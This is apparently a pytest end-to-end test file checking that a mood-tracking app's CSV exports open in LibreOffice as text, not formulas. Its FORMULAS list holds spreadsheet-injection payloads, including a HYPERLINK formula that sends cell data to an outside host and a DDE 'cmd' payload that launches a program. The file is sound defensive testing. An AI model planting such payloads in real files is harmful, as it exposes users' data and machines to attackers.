"""Every CSV Companion writes opens in a spreadsheet as text, never as a formula (issue 29).

Notes, thought records and the own goal's text that begin with `=`, `+`, `-`, `@`, a tab or a
carriage return used to be written as typed: LibreOffice and Excel ran them when the file was
opened (`=HYPERLINK(…)` sends the row away). The files of `companion export --format csv`,
`companion list --format csv` and a chart's *Save data as CSV* are opened here with LibreOffice
itself (headless), which must find no formula in them and show each text as written, after the
apostrophe that marks it as text.
"""

from __future__ import annotations

import os
import subprocess
import sys
import uuid
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from PySide6.QtWidgets import QWidget

from companion.domain.clock import FixedClock
from companion.domain.thoughts import ThoughtRecord
from companion.paths import AppPaths
from companion.storage.store import open_store
from companion.ui.chart_card import ChartCard
from tests.e2e.conftest import base_env, need_tools

pytestmark = pytest.mark.slow

# What people may type, as Excel or LibreOffice would read it: a formula after the first five.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"看这里")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "-cmd|' /C calc'!A0",
]
PLAIN = ["-5", "+0.5", "说我们从不发货", "'=quoted by hand", "1+1="]
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
TEXT = "{" + NS["text"] + "}"


def expected(written: str) -> str:
    """The text of the cell LibreOffice shows (a carriage return in it is a line break; a
    plain number is shown as the number, without its plus sign)."""
    shown = written if written in PLAIN else "'" + written
    return shown.replace("\r", "\n").removeprefix("+")


def _cell_text(cell: ET.Element) -> str:
    def inner(element: ET.Element) -> str:
        found = element.text or ""
        for child in element:
            if child.tag == f"{TEXT}tab":
                found += "\t"
            elif child.tag == f"{TEXT}s":
                found += " " * int(child.get(f"{TEXT}c", "1"))
            elif child.tag == f"{TEXT}line-break":
                found += "\n"
            else:
                found += inner(child)
            found += child.tail or ""
        return found

    return "\n".join(inner(p) for p in cell.findall("text:p", NS))


def opened_in_libreoffice(files: list[Path], tmp_path: Path) -> dict[str, list[list[str]]]:
    """Each CSV file as LibreOffice Calc opens it (comma-separated, UTF-8, formulas evaluated,
    as it does by default), read back cell by cell; fails on any cell holding a formula."""
    need_tools("soffice")
    out = tmp_path / "opened"
    profile = (tmp_path / "lo-profile").as_uri()
    done = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, files),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    assert done.returncode == 0, done.stderr
    sheets = {}
    for path in files:
        tree = ET.parse(out / f"{path.stem}.fods")
        rows = []
        for row in tree.iter(f"{{{NS['table']}}}table-row"):
            cells = row.findall("table:table-cell", NS)
            formulas = [cell.get(f"{{{NS['table']}}}formula") for cell in cells]
            assert formulas == [None] * len(cells), (path.name, formulas)
            repeated = f"{{{NS['table']}}}number-columns-repeated"
            rows.append(
                [
                    _cell_text(cell)
                    for cell in cells
                    for _ in range(min(50, int(cell.get(repeated, "1"))))
                ]
            )
        sheets[path.name] = rows
    return sheets


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:] if len(row) > index]


@pytest.fixture
def home(tmp_path) -> Path:
    """A store whose notes, thought record and own goal begin like formulas."""
    home = tmp_path / "home"
    for note in [*FORMULAS, *PLAIN]:
        logged = subprocess.run(
            [sys.executable, "-m", "companion", "log", "--stress", "4", f"--note={note}"],
            env=base_env(home),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert logged.returncode == 0, logged.stderr
    now = datetime.now(UTC)
    store, _ = open_store(AppPaths(home, home), FixedClock(now))
    try:
        store.save_thought(
            ThoughtRecord(
                id=uuid.uuid4(),
                created_at=now - timedelta(minutes=5),
                updated_at=now,
                automatic_thought="=1+1",
                situation="@SUM(1,2)",
                balanced_thought="+1+2",
            )
        )
        store.set_goal("own", 3, "=1+1")
    finally:
        store.close()
    return home


def test_the_export_and_list_open_as_text_in_a_spreadsheet(home, tmp_path):
    folder = tmp_path / "csv"
    exported = subprocess.run(
        [sys.executable, "-m", "companion", "export", "--format", "csv", "--out", str(folder)],
        env=base_env(home),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert exported.returncode == 0, exported.stderr
    listed = tmp_path / "list.csv"
    with listed.open("wb") as out:
        done = subprocess.run(
            [sys.executable, "-m", "companion", "list", "--format", "csv"],
            env=base_env(home),
            stdout=out,
            timeout=60,
            check=False,
        )
    assert done.returncode == 0
    files = [folder / "mood_entries.csv", folder / "thought_records.csv", folder / "goals.csv"]
    sheets = opened_in_libreoffice([*files, listed], tmp_path)
    wanted = sorted(expected(text) for text in [*FORMULAS, *PLAIN])
    assert sorted(column(sheets["mood_entries.csv"], "note")) == wanted
    assert sorted(column(sheets["list.csv"], "note")) == wanted
    thought = sheets["thought_records.csv"]
    assert column(thought, "automatic_thought") == ["'=1+1"]
    assert column(thought, "situation") == ["'@SUM(1,2)"]
    assert column(thought, "balanced_thought") == ["'+1+2"]
    assert column(sheets["goals.csv"], "label") == ["'=1+1"]
    # the ids, times and numbers are as they were
    assert column(sheets["mood_entries.csv"], "stress") == ["4"] * len(wanted)


def test_a_charts_csv_opens_as_text_in_a_spreadsheet(qtbot, tmp_path):
    """A chart's rows may hold someone's text (a training mark's label, a goal's name)."""
    labels = [*FORMULAS, *PLAIN]
    chart = QWidget()
    qtbot.addWidget(chart)
    parent = QWidget()
    qtbot.addWidget(parent)
    card = ChartCard(
        "marks", chart, lambda: (["label", "value"], [[text, -1.5] for text in labels]), parent
    )
    path = tmp_path / "chart.csv"
    card.save_csv(path)
    sheets = opened_in_libreoffice([path], tmp_path)
    rows = sheets["chart.csv"]
    assert sorted(column(rows, "label")) == sorted(expected(text) for text in labels)
    assert set(column(rows, "value")) == {"-1.5"}  # a number stays a number
